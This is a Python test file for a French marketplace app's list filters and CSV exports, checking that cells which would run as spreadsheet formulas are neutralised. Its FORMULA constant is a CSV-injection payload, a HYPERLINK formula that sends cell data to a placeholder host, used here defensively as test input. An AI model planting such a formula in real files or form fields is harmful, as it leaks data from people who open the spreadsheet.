"""The list screens' shared pieces (marketplace/web/tables.py): filters in the URL and the CSV exports.

Every export is written by `csv_download`: a BOM, `;`, CRLF, and no cell a spreadsheet would run as a formula
(CSV injection). The funder's calls export is checked end to end with a title a funder typed as a formula.
"""

from __future__ import annotations

import csv
import io
from typing import ClassVar

from marketplace.web.tables import ListFilters, cell, csv_lines, euros_cell
from tests.funding_api import WIDE_CLOSES, WIDE_OPENS
from tests.vendors.api import Client, expect
from tests.web.pages import Browser, login
from tests.world import World, email_of

FORMULA = '=HYPERLINK("https://exemple.invalid/?d="&A1;"Voir")'


class _Filters(ListFilters, frozen=True):
    base: ClassVar[str] = "/app/liste"
    statut: str = "tous"
    q: str = ""
    tri: str = "date"
    ordre: str = "asc"
    page: int = 1


def test_filters_keep_what_differs_from_their_defaults_in_the_url() -> None:
    filters = _Filters(statut="ouverts", q="dossier patient", page=3)
    assert filters.link() == "/app/liste?statut=ouverts&q=dossier+patient&page=3"
    assert filters.link(page=1) == "/app/liste?statut=ouverts&q=dossier+patient"
    assert _Filters().link() == "/app/liste"
    assert filters.link("/app/liste/export.csv") == "/app/liste/export.csv?statut=ouverts&q=dossier+patient&page=3"
    # Sorting by the current column flips its order and goes back to page 1; another column starts ascending.
    assert filters.sort_link("date") == "/app/liste?statut=ouverts&q=dossier+patient&ordre=desc"
    assert _Filters(ordre="desc").sort_link("date") == "/app/liste"
    assert filters.sort_link("titre") == "/app/liste?statut=ouverts&q=dossier+patient&tri=titre"
    assert (filters.aria_sort("date"), filters.aria_sort("titre")) == ("ascending", "none")
    assert _Filters(ordre="desc").aria_sort("date") == "descending"


def test_a_cell_never_runs_as_a_formula() -> None:
    for text in ("=1+1", "+33 1 23", "-2+3", "@SUM(A1)", "\tx", "\rx", FORMULA):
        assert cell(text) == f"'{text}"
    # Plain numbers stay numbers, negative ones too; None is empty; booleans are words.
    assert [cell(v) for v in ("-12,50", "-3", 42, None, True, False, "Éditeur")] == \
        ["-12,50", "-3", 42, "", "oui", "non", "Éditeur"]
    assert (euros_cell(1_234_567), euros_cell(-250), euros_cell(None)) == ("12345,67", "-2,50", "")


def test_the_file_is_what_a_french_spreadsheet_opens() -> None:
    data = b"".join(csv_lines(("Nom", "Montant"), [("Éditeur; SAS", "1,50"), (FORMULA, 3)]))
    assert data.startswith("\ufeff".encode()) and data.count(b"\r\n") == 3
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["Nom", "Montant"], ["Éditeur; SAS", "1,50"], [f"'{FORMULA}", "3"]]


async def test_a_funders_export_quotes_a_title_typed_as_a_formula(client: Client, world: World) -> None:
    expect(await client.post("/funding-calls", headers=world["funder_admin"].headers, json={
        "title": FORMULA, "campaign": 2025, "reference": "AAP-FORMULE", "opensAt": WIDE_OPENS,
        "closesAt": WIDE_CLOSES, "envelopeCents": 10_000_000, "sandbox": False}), 201)
    web = Browser(client)
    assert (await login(web, email_of("funder_admin"))).status_code == 303
    export = await web.get("/app/financements/export")
    assert export.status_code == 200 and export.headers["cache-control"] == "private, no-store"
    assert "appels-a-projets.csv" in export.headers["content-disposition"]
    assert export.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig")), delimiter=";"))
    row = next(r for r in rows if r[0] == "AAP-FORMULE")
    assert row[1] == f"'{FORMULA}" and row[10] == "100000,00"
